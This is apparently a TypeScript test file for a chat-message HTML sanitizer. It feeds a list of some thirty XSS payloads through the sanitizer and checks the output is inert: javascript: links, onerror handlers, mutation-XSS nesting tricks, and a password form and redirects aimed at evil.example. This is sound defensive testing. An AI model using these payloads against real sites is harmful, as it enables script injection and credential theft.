// HTML of messages under attack: what people are shown holds words and links, and nothing that acts.
import fc from 'fast-check'
import { fromHtml } from 'hast-util-from-html'
import { describe, expect, it } from 'vitest'
import { readMessageHtml } from '../../../main/core/content/message-html.ts'
import { hostedIdOf } from '../../../main/core/content/message-path.ts'

const cloud = { graphHost: 'https://graph.microsoft.com' }
const read = (html: string) => readMessageHtml(html, (src) => hostedIdOf(src, cloud))

const ALLOWED = new Set([
  ...['p', 'div', 'span', 'br', 'hr', 'blockquote', 'pre', 'code', 'a', 'b', 'strong', 'i', 'em'],
  ...['u', 's', 'strike', 'del', 'sub', 'sup', 'mark', 'ul', 'ol', 'li', 'table', 'thead', 'tbody'],
  ...['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'tr', 'th', 'td'],
])
const ATTRIBUTES = new Set(['href', 'target', 'rel', 'colSpan', 'rowSpan'])

/** What a browser would make of it that it must not. */
function dangersIn(html: string): string[] {
  const dangers: string[] = []
  const visit = (
    node: ReturnType<typeof fromHtml> | ReturnType<typeof fromHtml>['children'][number],
  ) => {
    if (node.type === 'comment' || node.type === 'doctype') dangers.push(node.type)
    if (node.type === 'element') {
      if (!ALLOWED.has(node.tagName)) dangers.push(node.tagName)
      for (const [name, value] of Object.entries(node.properties)) {
        if (!ATTRIBUTES.has(name)) dangers.push(name)
        const isLink = /^(https?:|mailto:|tel:|[^:]*$|[/?#])/i.test(String(value))
        if (name === 'href' && !isLink) dangers.push(String(value))
      }
    }
    if ('children' in node) node.children.forEach(visit)
  }
  visit(fromHtml(html, { fragment: true }))
  return dangers
}

const attacks = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example" onclick="alert(1)" style="position:fixed">x</a>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>x',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<table><td><svg><style><img src=x onerror=alert(1)></style></svg></table>',
  '<p id="location" name="body" class="x">x</p>',
  '<div><math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<select><noembed></select><script>alert(1)</script>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<a href="https://ok.example" target="_self" rel="opener">x</a>',
  '<plaintext><script>alert(1)</script>',
]

describe('HTML of a message', () => {
  it.each(attacks)('is harmless: %s', (attack) => {
    const { html } = read(attack)
    expect(dangersIn(html)).toEqual([])
    // A browser would read what was written in the same way: no second reading makes something new of it.
    expect(read(html).html).toBe(html)
    expect(html).not.toMatch(/evil\.example\/|alert\(1\)<\/script/)
  })

  it('is harmless in whatever way attacks are put together', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...attacks), { maxLength: 4 }),
        fc.nat(60),
        (parts, cut) => {
          const { html } = read(parts.join('').slice(cut))
          return dangersIn(html).length === 0
        },
      ),
      { numRuns: 200 },
    )
  })

  it('keeps words, lists, tables and links, with a link that tells nothing of who clicked', () => {
    const { html } = read(
      '<p>See <a href="https://ok.example/a?b=1&amp;c">this</a></p><ul><li>one</li></ul><table><tr><td colspan="2">t</td></tr></table>',
    )
    expect(html).toContain('href="https://ok.example/a?b=1&#x26;c"')
    expect(html).toContain('rel="noopener noreferrer nofollow"')
    expect(html).toContain('<li>one</li>')
    expect(html).toContain('<td colspan="2">t</td>')
  })

  it('reads as plain text with its lines, emoji and names', () => {
    const { text } = read(
      '<div><p>Hello <at id="0">Jane</at>&nbsp;<emoji id="smile" alt="🙂"></emoji></p><p>second &lt;b&gt;</p></div><attachment id="x"></attachment>',
    )
    expect(text).toBe('Hello Jane 🙂\n\nsecond <b>')
  })

  it('notes hosted pictures by their id, and only those of Graph', () => {
    const hosted =
      'https://graph.microsoft.com/v1.0/chats/19:a/messages/1/hostedContents/abc%3D/$value'
    const { images, html } = read(
      `<p><img src="${hosted}" alt="A label"><img src="${hosted}"><img src="https://evil.example/hostedContents/x/$value" alt="gone"></p>`,
    )
    expect(images).toEqual([{ id: 'abc=', description: 'A label' }])
    expect(html).toBe('<p>gone</p>')
  })

  it('gives up on nesting without end and on what no message can hold', () => {
    for (const html of ['<div>'.repeat(30_000), 'x'.repeat(300_000)]) {
      expect(read(html).text).toBe('[This message cannot be shown.]')
    }
  })
})
